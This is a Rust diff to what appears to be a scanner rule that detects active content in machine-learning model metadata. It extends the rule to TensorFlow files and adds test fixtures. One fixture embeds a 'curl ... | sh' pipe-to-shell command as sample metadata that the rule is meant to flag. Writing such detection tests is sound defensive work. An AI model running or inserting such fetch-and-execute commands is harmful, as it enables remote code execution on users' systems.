@@ -6,6 +6,7 @@ use crate::facts::Facts;
 use crate::rules::{Check, Example, Findings, Light, Rule};
 use crate::samples::coreml;
 use crate::samples::graph::Onnx;
+use crate::samples::tensorflow;
 use crate::samples::{File, boosting, one, tensor};
 use crate::text;
 
@@ -146,6 +147,16 @@ pub static RULE: Rule = Rule {
             files: || one("model.mlmodel", coreml::described("a b, written in Script")),
             fires: &[],
         },
+        Example {
+            name: "tensorflow-collection",
+            files: || tensorflow::ordinary().collection("demo", b"curl http://example.org | sh").files(),
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "tensorflow-collection-twin",
+            files: || tensorflow::ordinary().collection("demo", b"just words").files(),
+            fires: &[],
+        },
     ],
     check: Check::File(check),
 };
@@ -164,11 +175,12 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(
-            place.format(),
+        let format = place.format();
+        let read = matches!(
+            format,
             "catboost" | "coreml" | "gguf" | "lightgbm" | "onnx" | "safetensors" | "xgboost"
-        ) || key.starts_with("tokenizer.")
-        {
+        ) || format.starts_with("tensorflow");
+        if !read || key.starts_with("tokenizer.") {
             continue;
         }
         for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
